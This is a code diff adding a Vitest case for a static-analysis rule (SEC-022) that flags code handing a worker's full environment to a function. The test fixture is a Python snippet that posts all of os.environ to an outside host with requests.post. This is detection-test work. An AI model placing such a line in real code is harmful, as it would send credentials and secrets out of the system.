@@ -1,5 +1,5 @@
 import { describe, expect, test } from "vitest";
-import { placesIn } from "../../analysis/inspect-texts.ts";
+import { inspectTexts, placesIn } from "../../analysis/inspect-texts.ts";
 
 const places = (text: string) => placesIn("SEC-022", text);
 
@@ -36,4 +36,14 @@ describe("the whole environment", () => {
   ])("not: %s", async (_, text) => {
     expect(await places(text)).toEqual([]);
   });
+});
+
+test("what it is given to is named", async () => {
+  const text =
+    'import os, requests\nprint(os.environ)\nrequests.post("https://example.org", json=dict(os.environ), timeout=3)\n';
+  const { findings } = await inspectTexts({ files: [{ path: "dags/a.py", text }] });
+  expect(findings.filter(({ rule }) => rule === "SEC-022").map(({ message }) => message)).toEqual([
+    "This gives the worker's whole environment to `print`.",
+    "This gives the worker's whole environment to `requests.post`.",
+  ]);
 });
